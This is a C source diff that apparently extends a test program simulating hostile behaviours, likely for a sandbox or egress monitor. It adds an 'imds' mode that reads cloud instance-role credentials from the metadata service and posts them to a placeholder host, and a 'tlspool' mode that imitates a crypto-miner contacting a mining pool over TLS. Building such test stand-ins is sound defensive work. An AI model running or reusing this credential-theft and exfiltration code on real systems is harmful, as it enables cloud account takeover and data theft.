@@ -37,6 +37,51 @@ static int count_procs(void) {
     return n;
 }
 
+/* GET http://ip/path (one request, read to the end); the body into out. */
+static int http_get(const char *ip, const char *path, char *out, size_t cap) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET; a.sin_port = htons(80);
+    inet_pton(AF_INET, ip, &a.sin_addr);
+    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return -1;
+    char req[512];
+    int len = snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", path, ip);
+    if (write(s, req, len) != len) return -1;
+    char resp[4096];
+    size_t got = 0;
+    ssize_t k;
+    while (got < sizeof resp - 1 && (k = read(s, resp + got, sizeof resp - 1 - got)) > 0) got += k;
+    resp[got] = 0;
+    close(s);
+    char *body = strstr(resp, "\r\n\r\n");
+    if (!body || strncmp(resp, "HTTP/1.1 200", 12)) return -1;
+    snprintf(out, cap, "%s", body + 4);
+    return 0;
+}
+
+/* A TLS ClientHello asking for server name `host` (one cipher suite; enough for a
+   server to read the name, not to finish a handshake). */
+static int client_hello(unsigned char *b, const char *host) {
+    int hl = strlen(host), e = 0, m = 0, n = 0;
+    unsigned char ext[300], body[400];
+    int sni = 2 + 1 + 2 + hl;
+    ext[e++] = 0; ext[e++] = 0; ext[e++] = sni >> 8; ext[e++] = sni & 0xff;
+    ext[e++] = (sni - 2) >> 8; ext[e++] = (sni - 2) & 0xff;
+    ext[e++] = 0; ext[e++] = hl >> 8; ext[e++] = hl & 0xff;
+    memcpy(ext + e, host, hl); e += hl;
+    body[m++] = 3; body[m++] = 3;
+    for (int i = 0; i < 32; i++) body[m++] = i;
+    body[m++] = 0;
+    body[m++] = 0; body[m++] = 2; body[m++] = 0xc0; body[m++] = 0x2b;
+    body[m++] = 1; body[m++] = 0;
+    body[m++] = e >> 8; body[m++] = e & 0xff;
+    memcpy(body + m, ext, e); m += e;
+    b[n++] = 0x16; b[n++] = 3; b[n++] = 1; b[n++] = (m + 4) >> 8; b[n++] = (m + 4) & 0xff;
+    b[n++] = 1; b[n++] = 0; b[n++] = m >> 8; b[n++] = m & 0xff;
+    memcpy(b + n, body, m);
+    return n + m;
+}
+
 int main(int argc, char **argv) {
     const char *mode = argc > 1 ? argv[1] : "id";
     /* Line by line, so a run killed at its deadline still shows how far it got. */
@@ -272,6 +317,47 @@ int main(int argc, char **argv) {
         char buf[64];
         ssize_t k = read(s, buf, sizeof buf - 1);
         printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
+        return 0;
+    }
+    if (!strcmp(mode, "imds")) {
+        /* A cloud-credential thief: the instance role's keys from the metadata
+           service, sent away. */
+        char role[128] = "", creds[2048] = "";
+        if (http_get("169.254.169.254", "/latest/meta-data/iam/security-credentials/", role, sizeof role)) {
+            printf("imds_role=none\n");
+            return 10;
+        }
+        printf("imds_role=%s\n", role);
+        char path[256];
+        snprintf(path, sizeof path, "/latest/meta-data/iam/security-credentials/%s", role);
+        if (http_get("169.254.169.254", path, creds, sizeof creds)) return 11;
+        printf("imds_creds=%s\n", strstr(creds, "\"AccessKeyId\"") ? "yes" : "no");
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct sockaddr_in a = {0};
+        a.sin_family = AF_INET; a.sin_port = htons(80);
+        inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
+        tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
+        char req[4096];
+        int len = snprintf(req, sizeof req, "POST /k HTTP/1.1\r\nHost: keys.example.net\r\nContent-Length: %zu\r\n\r\n%s", strlen(creds), creds);
+        if (write(s, req, len) < 0) return 12;
+        char buf[64];
+        ssize_t k = read(s, buf, sizeof buf - 1);
+        printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
+        return 0;
+    }
+    if (!strcmp(mode, "tlspool")) {
+        /* A miner that carries its pool's address and speaks TLS: only the server name
+           in its ClientHello says where it is going. */
+        unsigned char hello[512];
+        int n = client_hello(hello, "pool.supportxmr.com");
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct sockaddr_in a = {0};
+        a.sin_family = AF_INET; a.sin_port = htons(443);
+        inet_pton(AF_INET, "192.0.2.44", &a.sin_addr);
+        tried("connect_pool", connect(s, (struct sockaddr *)&a, sizeof a));
+        printf("hello_sent=%s\n", write(s, hello, n) == n ? "yes" : "no");
+        char buf[64];
+        (void)read(s, buf, sizeof buf);
         return 0;
     }
     if (!strcmp(mode, "drop")) {
